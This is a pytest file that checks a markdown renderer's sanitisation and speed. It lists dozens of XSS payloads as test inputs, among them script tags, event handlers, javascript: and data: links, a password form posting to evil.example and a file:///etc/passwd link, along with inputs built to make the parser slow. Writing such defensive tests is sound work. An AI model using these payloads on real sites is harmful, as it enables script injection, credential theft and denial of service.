"""What must not pass, and what must not take long."""

import re
import time

import pytest

from localturn.foundation.prose import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    "<!-- --><b onmouseover=alert(1)>x</b>",
    "</p></div><form action=https://evil.example><input name=password>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](\\\\evil.example\\a)",
    "[x](/\\evil.example)",
    "[x](https:evil)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example)',
    '[x](https://example.org "a\\" onclick=\\"alert(1)")',
    '[x](https://example.org/"onclick="alert(1))',
    '[@"><script>alert(1)</script>]',
    "```html onload=alert(1)\n<script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <script>alert(1)</script>",
    "\x00<script>\x00",
]
_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w:-]*)([^>]*)>")
_HARMLESS = {
    *("p", "a", "code", "pre", "h2", "table", "thead", "tbody", "tr", "th", "td", "div"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_comes_through(attack: str) -> None:
    html = render(attack).html

    for tag, attributes in _TAG.findall(html):
        assert tag in _HARMLESS
        names = set(re.findall(r"([\w-]+)=\"[^\"]*\"", attributes))
        assert names <= {"href", "title", "rel", "class", "scope", "tabindex"}
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert address.startswith("https://example.org")


LONG = {
    "brackets": "[" * 20_000,
    "pictures": "![" * 10_000,
    "links": "[a](" * 6_000,
    "emphasis": "*a " * 10_000,
    "strong": "**" * 10_000 + "a",
    "underscores": "_a__" * 6_000,
    "quotes": ">" * 30_000,
    "lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "code marks": "".join("`" * n + " " for n in range(200)),
    "entities": "&" * 30_000,
    "tags": "<" * 30_000,
    "columns": "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|b\n" * 2_000,
    "citations": "[@a" * 10_000,
    "citations with places": "[@a, " * 6_000,
}


@pytest.mark.parametrize("name", sorted(LONG))
def test_text_made_to_be_slow_is_not(name: str) -> None:
    started = time.process_time()

    render(LONG[name])

    assert time.process_time() - started < 5


def test_a_citation_cannot_carry_html_from_its_source_or_place() -> None:
    class Evil:
        id = "a"
        text = "<script>alert(1)</script>"
        url = "javascript:alert(1)"

    html = render("[@a, <b>x</b>]", sources=(Evil(),)).html

    assert html == (
        '<p><sup class="lt-citation"><a href="#source-a">[1, &lt;b&gt;x&lt;/b&gt;]</a></sup></p>\n'
        '<section class="lt-sources"><ol>'
        '<li id="source-a">&lt;script&gt;alert(1)&lt;/script&gt;</li></ol></section>'
    )
